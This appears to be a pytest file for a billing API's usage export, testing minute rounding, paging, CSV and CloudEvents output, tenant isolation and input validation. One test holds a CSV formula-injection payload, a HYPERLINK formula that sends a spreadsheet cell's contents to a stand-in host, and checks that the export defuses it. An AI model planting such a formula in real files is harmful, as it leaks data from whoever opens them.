"""Usage export: per-session billing records (JSON pages, CSV, CloudEvents) that add up to the
daily report, and the rounding rule: billed minutes = ceil(whole active seconds / 60)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.conftest import Api
from tests.support import FakeClock

from .helpers import JsonObject, assert_problem, json_object, open_session

NOON = int(datetime(2025, 3, 10, 12, tzinfo=UTC).timestamp()) * 1_000_000
DAY = {"from": "2025-03-10", "to": "2025-03-10"}
CE_ATTRIBUTES = {"specversion", "id", "source", "type", "subject", "time", "datacontenttype"}


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(start=NOON)


async def close(api: Api, session_id: str) -> None:
    response = await api.client.post(f"/v1/sessions/{session_id}/close", headers=api.headers)
    assert response.status_code == 200, response.text


async def lasting(api: Api, clock: FakeClock, seconds: float, **fields: Any) -> str:
    session = await open_session(api, **fields)
    clock.advance(seconds)
    await close(api, session["id"])
    return str(session["id"])


async def seed(api: Api, clock: FakeClock) -> dict[str, str]:
    """Sessions named by what they test; ``open`` is still active at the end."""
    names = {
        "s59": await lasting(api, clock, 59),
        "s60": await lasting(api, clock, 60),
        "s61": await lasting(api, clock, 61),
        "s0": await lasting(api, clock, 0),
        "s60_9": await lasting(api, clock, 60.9),
        "unmetered": await lasting(api, clock, 300, metered=False),
    }
    deleted = await open_session(api, subject={"kind": "device", "id": "d1"})
    idle = await open_session(api, subject={"kind": "device", "id": "d2"}, idle_timeout_s=90)
    clock.advance(30)
    response = await api.client.delete(f"/v1/sessions/{deleted['id']}", headers=api.headers)
    assert response.status_code in (200, 204), response.text
    names["open"] = str((await open_session(api))["id"])
    clock.advance(600)  # ``idle`` expired 90 s after it opened; nobody swept it
    names.update(deleted=str(deleted["id"]), idle=str(idle["id"]))
    return names


async def records(api: Api, **params: Any) -> JsonObject:
    query = {**DAY, **params}
    response = await api.client.get("/v1/usage/records", params=query, headers=api.headers)
    assert response.status_code == 200, response.text
    return json_object(response)


async def test_each_ended_session_is_one_record_rounded_up_to_whole_minutes(
    api: Api, clock: FakeClock
) -> None:
    names = await seed(api, clock)
    page = await records(api)
    by_id = {r["session_id"]: r for r in page["items"]}
    billed = {name: by_id[sid]["billed_minutes"] for name, sid in names.items() if sid in by_id}
    assert billed == {
        "s59": 1,
        "s60": 1,
        "s61": 2,
        "s0": 0,
        "s60_9": 1,
        "unmetered": 0,
        "deleted": 1,
        "idle": 2,
    }
    assert names["open"] not in by_id
    seconds = {n: by_id[names[n]]["active_seconds"] for n in ("s59", "s60", "s61", "s0", "s60_9")}
    assert seconds == {"s59": 59, "s60": 60, "s61": 61, "s0": 0, "s60_9": 60}
    idle = by_id[names["idle"]]
    assert (idle["status"], idle["close_reason"], idle["active_seconds"]) == (
        "expired",
        "idle_timeout",
        90,
    )
    deleted = by_id[names["deleted"]]
    assert (deleted["status"], deleted["close_reason"], deleted["subject_kind"]) == (
        "deleted",
        "deleted",
        "device",
    )
    assert set(by_id[names["s59"]]) == {
        "session_id",
        "subject_kind",
        "subject_id",
        "scope",
        "dialect",
        "status",
        "close_reason",
        "metered",
        "opened_at",
        "ended_at",
        "billing_day",
        "active_seconds",
        "billed_minutes",
    }
    assert by_id[names["s59"]]["dialect"] == "native"
    assert {r["billing_day"] for r in page["items"]} == {"2025-03-10"}
    ends = [r["ended_at"] for r in page["items"]]
    assert ends == sorted(ends) and page["next_cursor"] is None


async def test_record_totals_equal_the_daily_report(api: Api, clock: FakeClock) -> None:
    await seed(api, clock)
    items = (await records(api))["items"]
    report = json_object(await api.client.get("/v1/usage", params=DAY, headers=api.headers))
    assert report["totals"]["ended"] == len(items) == 8
    assert report["totals"]["billed_minutes"] == sum(r["billed_minutes"] for r in items) == 8
    devices = (await records(api, subject_kind="device"))["items"]
    assert {r["subject_id"] for r in devices} == {"d1", "d2"}


async def test_pages_follow_the_cursor_without_gaps_or_repeats(api: Api, clock: FakeClock) -> None:
    await seed(api, clock)
    everything = [r["session_id"] for r in (await records(api))["items"]]
    seen: list[str] = []
    page = await records(api, limit=3)
    while True:
        seen += [r["session_id"] for r in page["items"]]
        if page["next_cursor"] is None:
            break
        page = await records(api, limit=3, cursor=page["next_cursor"])
    assert seen == everything


async def test_a_session_open_at_the_end_of_the_range_counts_on_the_day_it_ends(
    api: Api, clock: FakeClock
) -> None:
    session = await open_session(api)
    clock.advance(13 * 3600)  # past midnight: 2025-03-11 01:00
    await close(api, session["id"])
    assert (await records(api))["items"] == []
    [record] = (await records(api, **{"from": "2025-03-11", "to": "2025-03-11"}))["items"]
    assert (record["billing_day"], record["billed_minutes"]) == ("2025-03-11", 13 * 60)


async def test_records_export_as_csv_with_a_header_and_one_row_each(
    api: Api, clock: FakeClock
) -> None:
    await seed(api, clock)
    as_json = (await records(api))["items"]
    params = {**DAY, "format": "csv"}
    response = await api.client.get("/v1/usage/records", params=params, headers=api.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == list(as_json[0])
    assert [r["session_id"] for r in rows] == [r["session_id"] for r in as_json]
    assert [int(r["billed_minutes"]) for r in rows] == [r["billed_minutes"] for r in as_json]
    assert sum(int(r["billed_minutes"]) for r in rows) == 8


async def test_tenant_text_that_would_run_as_a_formula_is_defused_in_csv(
    api: Api, clock: FakeClock
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
    await lasting(api, clock, 61, subject={"kind": "user", "id": hostile}, scope="-1+1")
    params = {**DAY, "format": "csv"}
    response = await api.client.get("/v1/usage/records", params=params, headers=api.headers)
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert (row["subject_id"], row["scope"]) == ("'" + hostile, "'-1+1")
    assert (row["billed_minutes"], row["active_seconds"]) == ("2", "61")


async def cloudevents(api: Api, path: str) -> list[JsonObject]:
    params = {**DAY, "format": "cloudevents"}
    response = await api.client.get(path, params=params, headers=api.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/cloudevents-batch+json"
    events = response.json()
    assert isinstance(events, list)
    return events


async def test_records_export_as_a_batch_of_cloudevents(api: Api, clock: FakeClock) -> None:
    await seed(api, clock)
    as_json = (await records(api))["items"]
    events = await cloudevents(api, "/v1/usage")
    assert events == await cloudevents(api, "/v1/usage/records")
    assert len(events) == len(as_json)
    for event, record in zip(events, as_json, strict=True):
        assert set(event) >= CE_ATTRIBUTES
        assert event["specversion"] == "1.0"
        assert event["source"] == f"/sessionary/tenants/{api.tenant.name}"
        assert event["type"] == "io.sessionary.usage.session.billed"
        assert event["subject"] == record["session_id"]
        assert event["time"] == record["ended_at"]
        assert event["datacontenttype"] == "application/json"
        assert event["data"] == record
        assert isinstance(event["id"], str) and event["id"]
    assert len({e["id"] for e in events}) == len(events)


async def test_cloudevent_ids_are_stable_across_exports(api: Api, clock: FakeClock) -> None:
    names = await seed(api, clock)
    first = await cloudevents(api, "/v1/usage/records")
    await close(api, names["open"])  # one more record; the others must not change
    second = await cloudevents(api, "/v1/usage/records")
    assert second[: len(first)] == first
    assert len(second) == len(first) + 1 and second[-1]["subject"] == names["open"]


async def test_an_empty_range_exports_an_empty_batch(api: Api) -> None:
    assert await cloudevents(api, "/v1/usage/records") == []


async def test_another_tenant_exports_none_of_these_records(
    api: Api, other_api: Api, clock: FakeClock
) -> None:
    await seed(api, clock)
    assert (await records(other_api))["items"] == []
    assert await cloudevents(other_api, "/v1/usage") == []


async def test_bad_export_parameters_are_problems(api: Api) -> None:
    backwards = {"from": "2025-03-10", "to": "2025-03-09"}
    for path in ("/v1/usage", "/v1/usage/records"):
        for fmt in ("json", "csv", "cloudevents"):
            params = {**backwards, "format": fmt}
            response = await api.client.get(path, params=params, headers=api.headers)
            assert_problem(response, 422, "invalid-input")
    for cursor in ("nope!", "cjox", "eDoxOjI"):
        response = await api.client.get(
            "/v1/usage/records", params={"cursor": cursor}, headers=api.headers
        )
        assert_problem(response, 422, "invalid-input")
    response = await api.client.get("/v1/usage/records", params={"limit": 0}, headers=api.headers)
    assert_problem(response, 400, "invalid-parameter")
